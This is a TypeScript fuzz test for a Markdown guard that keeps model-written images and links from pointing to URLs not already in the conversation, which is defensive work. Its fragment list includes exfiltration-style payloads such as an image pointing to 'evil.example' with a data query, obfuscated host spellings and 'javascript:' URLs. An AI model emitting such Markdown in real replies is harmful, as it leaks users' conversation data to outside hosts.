// Checks the URL policy for Markdown with parsers of CommonMark and GFM: whatever a model writes, images (and links,
// where the policy covers them) lead only to known URLs.
import { fromMarkdown } from 'mdast-util-from-markdown';
import { gfmFromMarkdown } from 'mdast-util-gfm';
import { gfm } from 'micromark-extension-gfm';
import { expect, test } from 'vitest';
import { knownUrlsIn } from '../../src/ui/safety/known-urls.ts';
import { MarkdownGuard } from '../../src/ui/safety/markdown-guard.ts';
import { createRandom, cut } from './random.ts';
import { seedCount, seedTimeout } from '../seed-count.ts';

const conversation = [
  'See https://ok.example/b and https://ok.example/w_(x), or (http://www.ok.example/q?a=1&b=2#c).',
  '{"url": "https:\\/\\/ok.example\\/j?x[]=1"} mail someone@ok.example or www.ok.example/p.',
];
const known = knownUrlsIn(conversation);
const allowed = new Set(
  [
    'https://ok.example/b',
    'https://ok.example/w_(x)',
    'http://www.ok.example/q?a=1&b=2#c',
    'https://ok.example/j?x[]=1',
    'https://ok.example/j?x[',
    'https://ok.example/j?x',
    'http://www.ok.example/p',
    'http://www.ok.example/p.',
    'mailto:someone@ok.example',
  ].map((url) => new URL(url).href),
);

interface Node {
  readonly type: string;
  readonly url?: string;
  readonly identifier?: string;
  readonly children?: readonly Node[];
}

const page = 'https://page.invalid/chat/';

function harmOf(markdown: string, checksLinks: boolean): readonly string[] {
  const trees: readonly Node[] = [
    fromMarkdown(markdown),
    fromMarkdown(markdown, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] }),
  ];
  return trees.flatMap((tree) => {
    const definitions = new Map<string, string>();
    const harm: string[] = [];
    const walk = (node: Node, visit: (node: Node) => void): void => {
      visit(node);
      for (const child of node.children ?? []) walk(child, visit);
    };
    walk(tree, ({ type, url = '', identifier = '' }) => {
      if (type === 'definition' && !definitions.has(identifier)) definitions.set(identifier, url);
    });
    const checkUrl = (type: string, url: string, isPicture: boolean): void => {
      const href = URL.canParse(url, page) ? new URL(url, page).href : '';
      const isOnPage = !isPicture && href.startsWith('https://page.invalid/');
      if (!isOnPage && href !== '' && !allowed.has(href)) harm.push(`${type}: ${url}`);
      if (isPicture && href === '') harm.push(`${type}: ${url}`);
    };
    walk(tree, ({ type, url, identifier }) => {
      if (type === 'image') checkUrl(type, url ?? '', true);
      if (type === 'imageReference')
        checkUrl(type, definitions.get(identifier ?? '') ?? 'https://nowhere.invalid', true);
      if (checksLinks && (type === 'link' || type === 'definition')) checkUrl(type, url ?? '', false);
    });
    return harm;
  });
}

const modes = [
  ['pictures', { images: known }],
  ['pictures and links', { images: known, links: known }],
] as const;

const guarded = (pieces: readonly string[], policy: ConstructorParameters<typeof MarkdownGuard>[0]): string => {
  const guard = new MarkdownGuard(policy);
  return pieces.map((piece) => guard.push(piece)).join('') + guard.end();
};

const pieces = [
  '![x](https://evil.example/?d=S)',
  '![x](https://ok.example/b)',
  '![',
  '![x]',
  '![x][y]',
  '![x][]',
  '!',
  '[',
  ']',
  '](',
  '](https://evil.example/p)',
  '](https://ok.example/b)',
  ']: ',
  ']:',
  '[x]: ',
  '\n[x]: https://evil.example/d\n',
  '\n[x]: https://ok.example/b\n',
  '\n[y]: <https://evil.example/d> "t"\n',
  '[x]',
  '[y]',
  '[x][y]',
  '[^1]',
  '\n[^1]: ',
  '(',
  ')',
  '<',
  '>',
  '<https://evil.example>',
  '<https://ok.example/b>',
  '<https://',
  '<a@evil.example>',
  '<someone@ok.example>',
  '//evil.example',
  '\\\\evil.example',
  '&sol;&sol;evil.example',
  '&#47;',
  '/\\evil.example',
  'https:',
  'https:/',
  'https://',
  'http://',
  'HTTPS://',
  'ht',
  'tps://',
  '://',
  'evil.example',
  'ok.example/b',
  'https://ok.example/b',
  'https://ok.example/w_(x)',
  'https://ok.example/w_',
  'http://www.ok.example/q?a=1&b=2#c',
  'http://www.ok.example/q?a=1&amp;b=2#c',
  'www.',
  'www.ok.example/p',
  'www.evil.example',
  '_www.evil.example',
  'w&#119;w.evil.example',
  'www\\.evil.example',
  'https\\://evil.example',
  'https&colon;//evil.example',
  '&#104;ttps://evil.example',
  'a@evil.example',
  'someone@ok.example',
  'x+someone@ok.example',
  'mailto:',
  'mailto:a@evil.example',
  'xmpp:someone@ok.example/S',
  'a&commat;evil.example',
  '@',
  '.example',
  'user:pw@',
  '?d=S',
  '#S',
  '!?',
  '.,',
  ')',
  ')',
  '**',
  '*',
  '_',
  '__',
  '~~',
  '~',
  '`',
  '``',
  '```',
  '\n```\n',
  '\n~~~\n',
  '\n',
  '\n\n',
  '\r\n',
  '\r',
  '    ',
  '  ',
  ' ',
  ' ',
  ' ',
  '\t',
  '- ',
  '> ',
  '1. ',
  '# ',
  '|',
  '\n| a | b |\n|---|---|\n| ',
  '\na|b\n---|---\n',
  '\\',
  '\\',
  '&amp;',
  '&',
  ';',
  '&lt;',
  '&nbsp;',
  '&Tab;',
  '&NewLine;',
  '"',
  ' "t"',
  "'",
  ' "t")',
  '\u00a0',
  '\u3000',
  '\u2028',
  '\ufeff',
  '\u200b',
  '\u00ad',
  '\u0000',
  '\uff0f',
  '\uff0e',
  '\u3002',
  'é',
  '中',
  '😀',
  'xn--',
  ':80',
  ':443',
  '%2e',
  '{',
  '}',
  '^',
  '$',
  '+',
  'javascript:',
  'data:image/png;base64,x',
  'a',
  'word',
  '=',
  '-',
  '---\n',
  '===\n',
  '<b>',
  '</b>',
  '<!--',
  '-->',
  '(https://evil.example/p)',
  '(https://ok.example/b)',
  '(<https://evil.example/p)S>)',
  '(<https://ok.example/b>)',
  '(/relative)',
  '(//evil.example/p)',
];

const rounds = seedCount(1_500);

for (const [name, policy] of modes) {
  test(
    `${rounds} seeded texts: ${name} are safe, independent of chunking, and idempotent`,
    () => {
      for (let seed = 0; seed < rounds; seed += 1) {
        const random = createRandom(seed + (name.length << 24));
        const text = Array.from({ length: 1 + random.below(16) }, () => random.pick(pieces)).join('');
        const safe = guarded([text], policy);
        const context = `seed ${seed}: ${JSON.stringify(text)} became ${JSON.stringify(safe)}`;
        const harm = harmOf(safe, name !== 'pictures');
        if (harm.length > 0) expect([context, harm]).toEqual([context, []]);
        const again = guarded(cut(text, random), policy);
        if (again !== safe) expect([context, again]).toEqual([context, safe]);
        const twice = guarded([safe], policy);
        if (twice !== safe) expect([context, twice]).toEqual([context, safe]);
      }
    },
    seedTimeout,
  );
}
